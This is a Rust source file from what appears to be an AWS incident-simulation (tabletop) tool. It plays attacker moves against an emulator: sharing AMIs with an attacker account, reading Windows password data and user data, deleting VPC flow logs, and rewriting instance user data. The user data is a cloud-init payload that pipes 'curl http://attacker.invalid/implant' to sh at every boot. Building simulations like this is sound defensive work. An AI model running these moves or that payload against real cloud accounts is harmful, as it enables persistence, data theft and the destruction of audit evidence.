//! The attacker's moves on instances, images and flow logs, and the seeds
//! they need (AMIs and VPC flow logs made before the incident).

use aws_sdk_ec2::types::{
    Filter, FlowLogsResourceType, LaunchPermission, LaunchPermissionModifications,
    LogDestinationType, SecureBlobAttributeValue, TrafficType,
};

use super::admin::Admin;
use super::moves::{Played, alive, error_text};
use super::scenario::{InstanceSeed, Move, MoveKind};
use super::seed::ATTACKER_ACCOUNT;

/// What `modify_user_data` puts on an instance: as in the Stratus
/// technique, a MIME multipart whose cloud-config makes cloud-init run the
/// script at every start (a plain script runs only at the first launch).
const ATTACKER_USER_DATA: &str = "Content-Type: multipart/mixed; boundary=\"//\"\nMIME-Version: 1.0\n\n--//\nContent-Type: text/cloud-config; charset=\"us-ascii\"\n\ncloud_final_modules:\n- [scripts-user, always]\n\n--//\nContent-Type: text/x-shellscript; charset=\"us-ascii\"\n\n#!/bin/sh\n# tabletop attacker\ncurl -s http://attacker.invalid/implant | sh\n--//--\n";

/// The bucket seeded flow logs deliver to.
const FLOW_LOG_BUCKET: &str = "tabletop-flow-logs";

/// Seeds an instance group's AMIs (made from `instance`) and, when asked,
/// a flow log on the default VPC of its region. Returns the AMIs made.
pub async fn seed(admin: &Admin, i: &InstanceSeed, instance: &str) -> Result<usize, String> {
    let ec2 = admin.ec2(&i.region);
    let text = |e: &dyn std::fmt::Display| format!("{}: {e}", i.region);
    for n in 1..=i.images {
        let name = format!("{}-golden-{n}", i.name.as_deref().unwrap_or("instance"));
        ec2.create_image()
            .instance_id(instance)
            .name(name)
            .send()
            .await
            .map_err(|e| text(&e))?;
    }
    if i.flow_logs {
        let vpcs = ec2
            .describe_vpcs()
            .filters(Filter::builder().name("is-default").values("true").build())
            .send()
            .await
            .map_err(|e| text(&e))?;
        let vpc = vpcs
            .vpcs()
            .first()
            .and_then(|v| v.vpc_id())
            .unwrap_or_default();
        let bucket = format!("{FLOW_LOG_BUCKET}-{}", i.region);
        super::buckets::create(admin, &i.region, &bucket).await?;
        ec2.create_flow_logs()
            .resource_ids(vpc)
            .resource_type(FlowLogsResourceType::Vpc)
            .traffic_type(TrafficType::All)
            .log_destination_type(LogDestinationType::S3)
            .log_destination(format!("arn:aws:s3:::{bucket}"))
            .send()
            .await
            .map_err(|e| text(&e))?;
    }
    Ok(usize::from(i.images))
}

/// Plays an instance, image or flow-log move in `m.region`.
pub async fn play(admin: &Admin, m: &Move) -> (String, Played) {
    let region = m.region.clone().unwrap_or_default();
    let ec2 = admin.ec2(&region);
    let limit = m.count.map_or(usize::MAX, usize::from);
    let r = match m.action {
        MoveKind::ShareImages | MoveKind::DeregisterImages => {
            let images = ec2.describe_images().owners("self").send().await;
            let ids: Vec<String> = match images {
                Ok(i) => i
                    .images()
                    .iter()
                    .filter_map(|i| i.image_id().map(str::to_string))
                    .take(limit)
                    .collect(),
                Err(e) => return (region, Err(error_text(&e))),
            };
            each(&ids, |id| {
                let ec2 = ec2.clone();
                async move {
                    match m.action {
                        MoveKind::ShareImages => {
                            let add = LaunchPermission::builder()
                                .user_id(ATTACKER_ACCOUNT)
                                .build();
                            let grant = LaunchPermissionModifications::builder().add(add).build();
                            let call = ec2.modify_image_attribute().image_id(&id);
                            let sent = call.launch_permission(grant).send().await;
                            sent.map(|_| ()).map_err(|e| error_text(&e))
                        }
                        _ => {
                            let call = ec2.deregister_image().image_id(&id);
                            call.send().await.map(|_| ()).map_err(|e| error_text(&e))
                        }
                    }
                }
            })
            .await
        }
        MoveKind::GetPasswordData | MoveKind::ModifyUserData | MoveKind::DownloadUserData => {
            let ids = match instances(&ec2, limit).await {
                Ok(ids) => ids,
                Err(e) => return (region, Err(e)),
            };
            each(&ids, |id| {
                let ec2 = ec2.clone();
                async move {
                    match m.action {
                        // Only a Windows instance has any (EC2 API reference,
                        // GetPasswordData).
                        MoveKind::GetPasswordData => {
                            let call = ec2.get_password_data().instance_id(&id);
                            let got = call.send().await.map_err(|e| error_text(&e))?;
                            match got.password_data().unwrap_or_default().is_empty() {
                                true => Err("no password data (not a Windows instance)".into()),
                                false => Ok(()),
                            }
                        }
                        MoveKind::DownloadUserData => {
                            let call = ec2.describe_instance_attribute().instance_id(&id);
                            let call =
                                call.attribute(aws_sdk_ec2::types::InstanceAttributeName::UserData);
                            call.send().await.map(|_| ()).map_err(|e| error_text(&e))
                        }
                        _ => rewrite_user_data(&ec2, &id).await,
                    }
                }
            })
            .await
        }
        MoveKind::RemoveFlowLogs => {
            let logs = match ec2.describe_flow_logs().send().await {
                Ok(l) => l,
                Err(e) => return (region, Err(error_text(&e))),
            };
            let ids: Vec<String> = logs
                .flow_logs()
                .iter()
                .filter_map(|f| f.flow_log_id().map(str::to_string))
                .take(limit)
                .collect();
            if ids.is_empty() {
                Ok((Vec::new(), Vec::new()))
            } else {
                let call = ec2.delete_flow_logs().set_flow_log_ids(Some(ids.clone()));
                call.send()
                    .await
                    .map(|_| (ids, Vec::new()))
                    .map_err(|e| error_text(&e))
            }
        }
        _ => Err("not an instance, image or flow-log move".into()),
    };
    (region, r)
}

/// The Stratus technique's own sequence: user data changes only on a
/// stopped instance (EC2 API reference, ModifyInstanceAttribute), so the
/// attacker stops it, rewrites it and starts it again; the script runs at
/// that start, and the instance's memory is gone.
async fn rewrite_user_data(ec2: &aws_sdk_ec2::Client, id: &str) -> Result<(), String> {
    ec2.stop_instances()
        .instance_ids(id)
        .send()
        .await
        .map_err(|e| error_text(&e))?;
    // moto wants the value itself base64 (it decodes the wire's blob, then
    // the value); this only ever runs against the emulator.
    let encoded = aws_smithy_types::base64::encode(ATTACKER_USER_DATA);
    let data = aws_smithy_types::Blob::new(encoded.into_bytes());
    ec2.modify_instance_attribute()
        .instance_id(id)
        .user_data(SecureBlobAttributeValue::builder().value(data).build())
        .send()
        .await
        .map_err(|e| error_text(&e))?;
    ec2.start_instances()
        .instance_ids(id)
        .send()
        .await
        .map(|_| ())
        .map_err(|e| error_text(&e))
}

/// Up to `limit` running instances of the region.
async fn instances(ec2: &aws_sdk_ec2::Client, limit: usize) -> Result<Vec<String>, String> {
    let d = ec2
        .describe_instances()
        .send()
        .await
        .map_err(|e| error_text(&e))?;
    Ok(d.reservations()
        .iter()
        .flat_map(|r| r.instances())
        .filter(|i| alive(i))
        .filter_map(|i| i.instance_id().map(str::to_string))
        .take(limit)
        .collect())
}

/// Runs `act` on each id: those it did, and those refused with why.
async fn each<F, Fut>(ids: &[String], act: F) -> Played
where
    F: Fn(String) -> Fut,
    Fut: std::future::Future<Output = Result<(), String>>,
{
    let (mut done, mut refused) = (Vec::new(), Vec::new());
    for id in ids {
        match act(id.clone()).await {
            Ok(()) => done.push(id.clone()),
            Err(e) => refused.push(format!("{id}: {e}")),
        }
    }
    Ok((done, refused))
}
